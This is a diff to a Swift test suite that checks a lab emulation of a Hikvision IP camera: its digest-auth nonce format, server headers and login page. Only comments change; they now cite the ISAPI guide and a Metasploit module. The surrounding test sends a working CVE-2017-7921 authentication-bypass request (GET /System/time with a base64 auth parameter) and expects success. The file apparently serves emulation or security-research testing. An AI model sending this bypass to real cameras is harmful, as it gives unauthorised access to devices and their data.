@@ -63,7 +63,8 @@ struct LabQuirkTests {
         #expect(challenge.hasPrefix("Digest qop=\"auth\", realm=\"IP Camera(E5218)\", nonce=\""))
         #expect(challenge.hasSuffix("\", stale=\"FALSE\""))
         let nonce = try #require(CredentialCheck.parameters(String(challenge.dropFirst(7)))["nonce"])
-        // The nonce is hex of ASCII base64 of "<8 hex>:<8 hex>" (protocols.md §2.1).
+        // The nonce is hex of ASCII base64 of "<8 hex>:<8 hex>": the nonce of the Hikvision ISAPI developer guide example
+        // (chapter 12, §12.1) decodes so.
         var ascii: [UInt8] = []
         var index = nonce.startIndex
         while index < nonce.endIndex {
@@ -206,7 +207,8 @@ struct LabQuirkTests {
         #expect(reply.hasPrefix("HTTP/1.0 200 OK\r\nDate: "))
         #expect(reply.contains("\r\nServer: App-webs/\r\n"))
         #expect(reply.contains("/doc/page/login.asp?_"))
-        // CVE-2017-7921 firmware honours ?auth= (protocols.md §11).
+        // CVE-2017-7921 firmware honours ?auth= (rapid7/metasploit-framework@068f7671d617
+        // modules/auxiliary/gather/hikvision_info_disclosure_cve_2017_7921.rb check(): GET /System/time?auth=...).
         let bypass = try RawConnection(host: device, port: port(lab, 80))
         bypass.send("GET /System/time?auth=YWRtaW46MTEK HTTP/1.0\r\n\r\n")
         #expect(bypass.receiveReply().hasPrefix("HTTP/1.0 200 OK"))
